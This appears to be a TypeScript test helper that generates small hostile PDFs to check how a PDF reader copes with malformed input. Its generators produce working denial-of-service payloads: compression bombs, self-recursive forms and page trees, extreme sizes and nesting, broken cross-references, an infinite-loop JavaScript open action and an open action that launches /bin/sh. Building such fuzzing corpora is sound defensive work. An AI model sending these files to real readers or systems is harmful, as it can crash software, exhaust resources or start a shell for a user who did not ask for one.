// PDFs made to harm their reader. Each is small and uses one trick.
import { deflateSync } from 'node:zlib'
import type { Random } from '../documents/random.ts'

interface Page {
  readonly box?: string
  readonly content?: Buffer | string
  readonly filter?: string
  readonly resources?: string
  /** Further objects, from number 5 on. */
  readonly more?: readonly (string | Buffer)[]
  readonly catalog?: string
  readonly kids?: string
  readonly count?: number
}

const streamOf = (content: Buffer | string, filter = '', more = ''): Buffer => {
  const bytes = Buffer.from(content)
  return Buffer.concat([Buffer.from(`<</Length ${bytes.length}${filter}${more}>>\nstream\n`), bytes, Buffer.from('\nendstream')])
}

export const pdfOf = ({
  box = '0 0 595 842',
  content = '',
  filter = '',
  resources = '',
  more = [],
  catalog = '',
  kids = '3 0 R',
  count = 1,
}: Page): Buffer => {
  const objects: (string | Buffer)[] = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    `<</Type/Pages/Kids[${kids}]/Count ${count}>>`,
    `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>${resources}>>>>`,
    streamOf(content, filter),
    ...more,
  ]
  const parts = objects.map((object, at) =>
    Buffer.concat([Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
  )
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts, Buffer.from('trailer<</Root 1 0 R>>\n%%EOF\n')])
}

const text = (words: string): string => `BT /F1 18 Tf 72 700 Td (${words}) Tj ET`
const bomb = (unit: string, times: number): Buffer => deflateSync(Buffer.alloc(unit.length * times, unit), { level: 9 })

/** Forms that draw forms that draw forms. */
const laughs = (levels: number): Buffer => {
  const form = (level: number): Buffer =>
    streamOf(
      level === levels ? '0 0 100 100 re f' : '/N Do '.repeat(12),
      '',
      `/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</N ${6 + level} 0 R>>>>`,
    )
  return pdfOf({ content: '/N Do', resources: '/XObject<</N 5 0 R>>', more: Array.from({ length: levels + 1 }, (_, level) => form(level)) })
}

const garbledPicture = (filter: string, random: Random): Buffer => {
  const bytes = Buffer.from(Array.from({ length: 600 }, () => random.whole(0, 255)))
  const picture = streamOf(
    bytes,
    `/Filter/${filter}`,
    '/Type/XObject/Subtype/Image/Width 3000/Height 3000/BitsPerComponent 8/ColorSpace/DeviceRGB',
  )
  return pdfOf({ content: '595 0 0 842 0 0 cm /N Do', resources: '/XObject<</N 5 0 R>>', more: [picture] })
}

export const pdfTricks: readonly ((random: Random) => Buffer)[] = [
  () => pdfOf({ content: bomb(`${text('bomb')}\n`, 4_000_000), filter: '/Filter/FlateDecode' }),
  () => pdfOf({ content: bomb('q ', 30_000_000), filter: '/Filter/FlateDecode' }),
  () => pdfOf({ content: deflateSync(bomb('0 0 9 9 re f\n', 5_000_000)), filter: '/Filter[/FlateDecode/FlateDecode]' }),
  () => laughs(9),
  () =>
    pdfOf({
      content: '/N Do',
      resources: '/XObject<</N 5 0 R>>',
      more: [streamOf('/N Do', '', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</N 5 0 R>>>>')],
    }),
  () => pdfOf({ kids: '2 0 R', count: 1 }),
  () => pdfOf({ kids: '3 0 R '.repeat(200), count: 200 }),
  () => pdfOf({ count: 2_000_000_000 }),
  () => pdfOf({ box: '0 0 99999999 99999999', content: text('huge') }),
  () => pdfOf({ box: '0 0 0 0', content: text('nothing') }),
  () => pdfOf({ box: '0 0 1e400 -1', content: text('odd') }),
  () => pdfOf({ content: '['.repeat(200_000) }),
  () => pdfOf({ more: [`${'['.repeat(100_000)}${']'.repeat(100_000)}`], catalog: '/Names 5 0 R' }),
  () => pdfOf({ catalog: '/OpenAction<</S/JavaScript/JS(while(true){})>>', content: text('action') }),
  () => pdfOf({ catalog: '/OpenAction<</S/Launch/F(/bin/sh)>>', content: text('launch') }),
  () =>
    Buffer.from(
      pdfOf({ content: text('locked') })
        .toString('latin1')
        .replace('trailer<<', 'trailer<</Encrypt<</Filter/Standard/V 2/R 3/O(x)/U(y)/P -4/Length 128>>/ID[(a)(b)]'),
      'latin1',
    ),
  (random) => garbledPicture('JPXDecode', random),
  (random) => garbledPicture('JBIG2Decode', random),
  (random) => garbledPicture('DCTDecode', random),
  (random) => garbledPicture('CCITTFaxDecode', random),
  () =>
    pdfOf({
      content: `/P sh `.repeat(50),
      resources: '/Shading<</P<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1 0 1]/Function 5 0 R>>>>',
      more: [streamOf(`{ ${'dup mul '.repeat(20_000)} }`, '', '/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]')],
    }),
  () => pdfOf({ content: text('x'.repeat(3_000_000)) }),
  () => Buffer.concat([Buffer.alloc(900, ' '), pdfOf({ content: text('late') })]),
  () => Buffer.from('%PDF-1.7\nstartxref\n9\n%%EOF'),
  () => Buffer.from(`%PDF-1.7\n${'1 0 obj<</A 1 0 R>>endobj\n'.repeat(50_000)}trailer<</Root 1 0 R/Prev 9>>startxref 9`),
]
